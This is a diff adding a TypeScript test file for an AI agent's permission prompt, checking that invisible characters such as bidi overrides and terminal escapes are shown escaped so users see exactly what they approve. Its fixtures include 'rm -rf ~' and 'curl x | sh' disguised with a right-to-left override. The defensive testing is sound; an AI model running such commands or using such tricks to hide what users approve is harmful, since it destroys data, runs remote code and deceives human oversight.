@@ -1,0 +1,32 @@
+import { strict as assert } from "node:assert";
+import { test } from "node:test";
+import { MAX_DESCRIPTION_CHARS, permissionPrompt, ruleChoices, visible } from "../src/logic/permission";
+
+test("visible writes out bidi overrides, terminal escapes and carriage returns", () => {
+  assert.equal(visible("rm -rf ~ #\u202e hs"), "rm -rf ~ #\\u202e hs");
+  assert.equal(visible("echo \x1b[8mx\r"), "echo \\x1b[8mx\\r");
+  assert.equal(visible("a\u2066b\u2069\u2028\u200f"), "a\\u2066b\\u2069\\u2028\\u200f");
+  assert.equal(visible("line1\n\tline2"), "line1\n\tline2");
+  assert.equal(visible("line1\n\tline2", true), "line1\\n\\tline2");
+  assert.equal(visible("café שלום 😀"), "café שלום 😀");
+});
+
+test("permissionPrompt shows every character of what the user approves", () => {
+  const p = permissionPrompt({
+    toolName: "Bash",
+    title: "Run `curl x | sh #\u202e ls`?\nAll clear",
+    input: { command: "curl x | sh #\u202e ls", description: "List files\n".repeat(200) + "\u202e" },
+    suggestions: ["Bash(curl x | sh #\u202e ls)"],
+  });
+  assert.ok(!/[\u202e\x1b]/.test(p.message + p.detail), `raw invisible characters in ${JSON.stringify(p)}`);
+  assert.ok(!p.message.includes("\n"), "the title spans lines");
+  const said = p.detail.split("\n\n")[0];
+  assert.ok(said.length <= "The agent says: ".length + 2 * MAX_DESCRIPTION_CHARS, "the description is not clipped");
+  assert.match(p.detail, /\$ curl x \| sh #\\u202e ls/);
+});
+
+test("ruleChoices labels are escaped but the rules saved are not", () => {
+  const [c] = ruleChoices({ suggestions: ["Bash(a\u202eb)"] });
+  assert.equal(c.label, "Bash(a\\u202eb)");
+  assert.deepEqual(c.rules, ["Bash(a\u202eb)"]);
+});
